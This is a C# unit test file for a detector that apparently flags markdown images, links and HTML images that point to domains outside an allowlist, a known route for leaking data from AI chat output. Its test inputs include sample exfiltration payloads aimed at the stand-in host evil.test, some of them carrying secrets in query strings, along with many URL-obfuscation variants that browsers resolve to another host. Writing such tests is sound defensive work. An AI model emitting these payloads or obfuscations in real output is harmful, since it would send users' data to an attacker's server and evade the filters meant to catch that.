using Airs.Runtime.Detectors;

namespace Airs.Runtime.Tests.Detectors;

public class ExfilTests
{
    private static readonly string[] Allowed = ["example.com", "*.cdn.example.net"];

    [Fact]
    public void Markdown_image_to_unknown_domain_is_found_with_its_span()
    {
        const string image = "![x](https://evil.test/p.png?d=secret)";
        var text = "Here: " + image + " done";
        var m = Assert.Single(Exfil.Find(text, Allowed));
        Assert.Equal("markdown_image", m.Label);
        Assert.Equal(image, text.Substring(m.Start, m.Length));
    }

    [Theory]
    [InlineData("![logo](https://example.com/logo.png)")]
    [InlineData("![logo](https://img.example.com/logo.png)")]
    [InlineData("![logo](https://a.cdn.example.net/logo.png)")]
    [InlineData("see [the docs](https://docs.example.com/page?lang=en)")]
    [InlineData("plain https://other.test/page?page=2 link")]
    public void Allowed_or_harmless_links_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    [Fact]
    public void Subdomain_only_entry_does_not_allow_the_apex() =>
        Assert.NotEmpty(Exfil.Find("![x](https://cdn.example.net/a.png)", Allowed));

    [Fact]
    public void Lookalike_suffix_is_not_allowed() =>
        Assert.NotEmpty(Exfil.Find("![x](https://notexample.com/a.png)", Allowed));

    [Theory]
    [InlineData("[click](https://evil.test/x)", "markdown_link")]
    [InlineData("<img src=\"https://evil.test/a.png\">", "html_image")]
    [InlineData("visit https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy now", "url_query_data")]
    [InlineData("visit https://evil.test/c?u=jane.doe%40mail.example now", "url_query_data")]
    public void Links_images_and_query_data(string text, string label) => Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);

    /// <summary>
    /// What a browser fetches from another host though it is not written <c>https://host</c>: protocol-relative, other
    /// slashes or none after the scheme, a backslash ending the host, character references, an image's srcset. Each
    /// rendered an image from evil.test unreported before.
    /// </summary>
    [Theory]
    [InlineData("![x](//evil.test/p.png?d=secret)", "markdown_image")]
    [InlineData(@"![x](\\evil.test/p.png)", "markdown_image")]
    [InlineData(@"![x](https:/\evil.test/p.png)", "markdown_image")]
    [InlineData("![x](http:evil.test/p.png)", "markdown_image")]
    [InlineData("![x](HTTPS:///evil.test/p.png)", "markdown_image")]
    [InlineData("![x](&#104;ttps://evil.test/p.png)", "markdown_image")]
    [InlineData("![x](<//evil.test/p.png>)", "markdown_image")]
    [InlineData(@"![x](https://evil.test\x.example.com/p.png)", "markdown_image")]
    [InlineData("[click](//evil.test/x)", "markdown_link")]
    [InlineData("[ref]: //evil.test/x", "markdown_link")]
    [InlineData("<img src=\"//evil.test/a.png\">", "html_image")]
    [InlineData("<img src='&#x2F;&#x2F;evil.test/a.png'>", "html_image")]
    [InlineData("<img src=\"https://evil.test\\x.example.com/a.png\">", "html_image")]
    [InlineData("<img srcset=\"/local.png 1x, https://evil.test/b.png 2x\">", "html_image")]
    [InlineData("<picture><source srcset='//evil.test/b.webp'></picture>", "html_image")]
    public void Destinations_a_browser_reads_as_another_host_are_found(string text, string label) =>
        Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);

    [Theory]
    [InlineData("![x](/images/a.png)")]
    [InlineData("![x](images/a.png) and [next](../b.md)")]
    [InlineData("[top](#top) [mail](mailto:someone@evil.test)")]
    [InlineData("![x](data:image/png;base64,iVBORw0KGgo=)")]
    [InlineData("![x](//img.example.com/a.png)")]
    [InlineData(@"![x](https://example.com\@evil.test/a.png)")]
    [InlineData("<img srcset=\"a.png 1x, b.png 2x\"> <img src=\"/a.png\">")]
    [InlineData("Footnote[1]: see the appendix")]
    public void Relative_and_allowed_destinations_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
}
